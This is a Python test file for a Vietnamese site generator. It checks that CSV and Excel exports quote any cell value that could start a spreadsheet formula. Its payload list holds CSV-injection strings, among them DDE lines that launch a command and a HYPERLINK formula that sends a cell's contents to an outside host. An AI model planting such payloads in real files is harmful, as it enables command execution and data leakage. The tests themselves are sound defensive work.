"""No text the data holds becomes a live formula in a CSV file or a workbook."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pytest
from conftest import MODEL, UNITS

from generator.data.cells import NOTE, QUOTE, neutral

# What OWASP's CSV injection guidance lists, DDE payloads, and the full-width forms.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",  # already quoted: one more, so that taking one off gives it back
]
SAFE = ["Đường hoa", "1+1", "5 năm", "Tổ 1 - Khu phố 2", "a=b", "", "chi-bo-1", "“=”"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_starts_get_a_quote(value):
    assert neutral(value) == QUOTE + value


@pytest.mark.parametrize("value", [*SAFE, 5, -3, 2.5, None, True])
def test_other_values_are_left_as_they_are(value):
    assert neutral(value) == value


# Values as staff could type them in a model file or the registry, each starting a formula.
HOSTILE = {
    "title": '=HYPERLINK("http://example.invalid","Tuyến đường")',
    "unit": "+Chi bộ Khu phố 9",
    "locality": "@Phường Hòa Bình",
    "parent": "-Đảng bộ phường",
    "tag": "=1+1",
    "summary": "-2+3 hộ tham gia.",
    "field": "=Lĩnh vực thử",
}

PROJECT_MKDOCS = f"""\
site_name: Thử nghiệm
site_url: https://example.org/
theme:
  name: material
  language: vi
  font: false
plugins:
  - dan-van-kheo:
      fields:
        - {{id: do-thi-van-minh, name: "{HOSTILE["field"]}", group: kinh-te}}
"""


def hostile_project(project):
    project.write("mkdocs.yml", PROJECT_MKDOCS)
    project.write(
        "models/_units.yml",
        UNITS + f'- id: chi-bo-9\n  name: "{HOSTILE["unit"]}"\n  type: residential\n'
        f'  locality: "{HOSTILE["locality"]}"\n  parent: "{HOSTILE["parent"]}"\n',
    )
    project.write(
        "models/tuyen-duong-sang.md",
        MODEL.replace("title: Tuyến đường sáng – xanh – sạch – đẹp", f"title: '{HOSTILE['title']}'")
        .replace("unit: chi-bo-khu-pho-1", "unit: chi-bo-9")
        .replace(
            "summary: Chi bộ vận động nhân dân lắp đèn chiếu sáng và trồng cây xanh.",
            f"summary: '{HOSTILE['summary']}'",
        )
        .replace("registered: 2021-03-15", f"registered: 2021-03-15\ntags: ['{HOSTILE['tag']}']"),
    )
    return project


def starts_formula(text: str) -> bool:
    first = text.lstrip(" \u00a0")[:1]
    return first != "" and first in "=+-@\t\r＝＋－＠"


def csv_fields(path) -> list[list[str]]:
    raw = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(raw, newline="")))


def test_open_data_csv_cells_never_start_a_formula(project):
    hostile_project(project)
    result = project.build()
    assert result.returncode == 0, result.stderr
    folder = project.root / "site" / "du-lieu"
    models, units = csv_fields(folder / "mo-hinh.csv"), csv_fields(folder / "don-vi.csv")
    for rows in (models, units):
        for row in rows:
            for cell in row:
                assert not starts_formula(cell), cell
    model = dict(zip(models[0], models[1], strict=True))
    assert model["title"] == QUOTE + HOSTILE["title"]
    assert model["summary"] == QUOTE + HOSTILE["summary"]
    assert model["unit"] == QUOTE + HOSTILE["unit"]
    assert model["locality"] == QUOTE + HOSTILE["locality"]
    assert model["field"] == QUOTE + HOSTILE["field"]
    assert model["tags"] == QUOTE + HOSTILE["tag"]
    unit = next(dict(zip(units[0], row, strict=True)) for row in units[1:] if row[0] == "chi-bo-9")
    assert unit["parent"] == QUOTE + HOSTILE["parent"]
    # Every field quoted: a program splitting on ";" cannot start a cell inside one.
    for name in ("mo-hinh.csv", "don-vi.csv"):
        for line in (folder / name).read_text(encoding="utf-8-sig").splitlines():
            assert line.startswith('"') and line.endswith('"'), line
    # The JSON file keeps the values as they are; the page says how the CSV shows them.
    data = (folder / "mo-hinh.json").read_text(encoding="utf-8")
    assert '"title": "=HYPERLINK(' in data
    page = (folder / "index.html").read_text(encoding="utf-8")
    assert "dấu nháy đơn (&#x27;) ở đầu" in page
    assert NOTE.split(";")[0].replace("'", "&#x27;") in page


def test_workbook_cells_are_never_formulas(project):
    from openpyxl import load_workbook

    hostile_project(project)
    path = project.root / "thong-ke.xlsx"
    result = subprocess.run(
        [sys.executable, "-m", "generator", "stats", "--xlsx", str(path)],
        cwd=project.root,
        capture_output=True,
        text=True,
        env={**os.environ, "NO_MKDOCS_2_WARNING": "1"},
    )
    assert result.returncode == 0, result.stderr
    book = load_workbook(path)
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    texts = [v for v in values if isinstance(v, str)]
    assert QUOTE + HOSTILE["field"] in texts
    assert QUOTE + HOSTILE["locality"] in texts
    assert not any(starts_formula(v) for v in texts)
    assert any(isinstance(v, int) for v in values), "counts stay numbers"
